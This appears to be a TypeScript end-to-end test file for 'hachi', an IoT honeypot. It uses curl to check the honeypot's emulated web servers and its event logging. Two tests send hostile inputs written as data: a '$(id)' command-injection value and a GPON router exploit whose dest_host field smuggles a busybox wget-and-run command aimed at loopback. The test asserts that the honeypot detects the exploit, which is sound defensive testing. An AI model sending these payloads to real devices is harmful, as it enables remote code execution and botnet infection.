// End-to-end with curl against `hachi run` serving persona web servers over HTTP and HTTPS on
// loopback: GET, POST, two URLs on one keep-alive connection (the hub's lighttpd), HTTP/1.0, HTTPS
// with the device-like certificate (the camera's uc-httpd); events stored.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { startHachi, type RunningHachi } from './hachi-process.ts';
import { CAMERA } from './personas.ts';
import { storedEvents } from './stored-events.ts';

const HUB = 'rk3308-smart-hub';
let hachi: RunningHachi;
before(async () => {
  hachi = await startHachi([
    { name: 'web', persona: HUB, protocol: 'http', webPort: 80 },
    { name: 'web-tls', persona: CAMERA.id, protocol: 'http', tls: true, webPort: 80 },
  ]);
});
after(async () => {
  await hachi.stop();
});

function curl(args: readonly string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn('curl', ['-s', '--max-time', '10', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString('latin1')));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('latin1')));
    child.on('exit', (code) => resolve({ code, stdout, stderr }));
  });
}

const url = (path: string, name = 'web', scheme = 'http'): string => `${scheme}://127.0.0.1:${hachi.ports.get(name)}${path}`;

test('curl GET and POST get the hub lighttpd answers, byte for byte in its header order, and each request is an event', async () => {
  const get = await curl(['-i', url('/cgi-bin/main.cgi?page=1')]);
  assert.equal(get.code, 0, get.stderr);
  // lighttpd 1.4.48's own 404: its header order, its Server, a body of exactly Content-Length bytes.
  const [head, body] = get.stdout.split('\r\n\r\n');
  assert.match(head!, /^HTTP\/1\.1 404 Not Found\r\nContent-Type: text\/html\r\nContent-Length: (\d+)\r\nDate: [A-Z][a-z]{2}, \d\d [A-Z][a-z]{2} \d{4} \d\d:\d\d:\d\d GMT\r\nServer: lighttpd\/1\.4\.48$/);
  assert.equal(Buffer.byteLength(body!, 'latin1'), Number(/Content-Length: (\d+)/.exec(head!)![1]));
  const post = await curl(['-i', '-d', 'user=admin&pass=$(id)', url('/login.cgi')]);
  assert.match(post.stdout, /^HTTP\/1\.1 404 Not Found\r\n/);
  const [request] = await storedEvents(hachi, 'http.request', (e) => e.data['path'] === '/login.cgi');
  assert.equal(request?.data['method'], 'POST');
  assert.equal(request?.data['body'], 'user=admin&pass=$(id)');
  assert.equal(request?.persona, HUB);
  const [query] = await storedEvents(hachi, 'http.request', (e) => e.data['path'] === '/cgi-bin/main.cgi');
  assert.equal(query?.data['query'], 'page=1');
});

test('curl fetches two URLs over one keep-alive connection', async () => {
  const both = await curl(['-v', '-o', '/dev/null', '-o', '/dev/null', url('/a'), url('/b')]);
  assert.equal(both.code, 0, both.stderr);
  assert.match(both.stderr, /Re-using existing/i);
  const sessions = new Set((await storedEvents(hachi, 'http.request', (e) => e.data['path'] === '/a' || e.data['path'] === '/b', 2)).map((e) => e.session));
  assert.equal(sessions.size, 1);
});

test('curl --http1.0 gets an HTTP/1.0 answer and the connection closes', async () => {
  const old = await curl(['-i', '--http1.0', url('/old')]);
  assert.equal(old.code, 0, old.stderr);
  assert.match(old.stdout, /^HTTP\/1\.0 404 Not Found\r\n/);
  const [request] = await storedEvents(hachi, 'http.request', (e) => e.data['path'] === '/old');
  const closes = await storedEvents(hachi, 'session.close', (e) => e.session === request?.session);
  assert.equal(closes[0]?.data['reason'], 'exit');
});

test('curl -k over HTTPS sees the device-like self-signed certificate', async () => {
  const tls = await curl(['-k', '-v', '-i', url('/', 'web-tls', 'https')]);
  assert.equal(tls.code, 0, tls.stderr);
  assert.match(tls.stdout, /^HTTP\/1\.0 200 OK\r\n[^]*Server: uc-httpd 1\.0\.0\r\n/);
  assert.match(tls.stderr, /subject: .*CN ?= ?IPC-HI3516D-53H20L/);
  assert.match(tls.stderr, /subject: .*O ?= ?Hangzhou Xiongmai Technology/);
  const refused = await curl([url('/', 'web-tls', 'https')]);
  assert.notEqual(refused.code, 0, 'a self-signed certificate is not trusted without -k');
});

test('a GPON exploit sent with curl is detected, named and its command extracted', async () => {
  const body = 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://127.0.0.1:1/gpon;sh+gpon`;&ipv=0';
  const sent = await curl(['-i', '-H', 'User-Agent: Hello, World', '--data-binary', body, url('/GponForm/diag_Form?images/')]);
  assert.equal(sent.code, 0, sent.stderr);
  const [exploit] = await storedEvents(hachi, 'exploit.detected', () => true);
  assert.deepEqual(exploit?.data['cves'], ['CVE-2018-10561', 'CVE-2018-10562']);
  assert.match(String(exploit?.data['payload']), /busybox wget http:\/\/127\.0\.0\.1:1\/gpon/);
  // The hub is not a router: recorded, but not affected.
  assert.equal(exploit?.data['affected'], false);
});
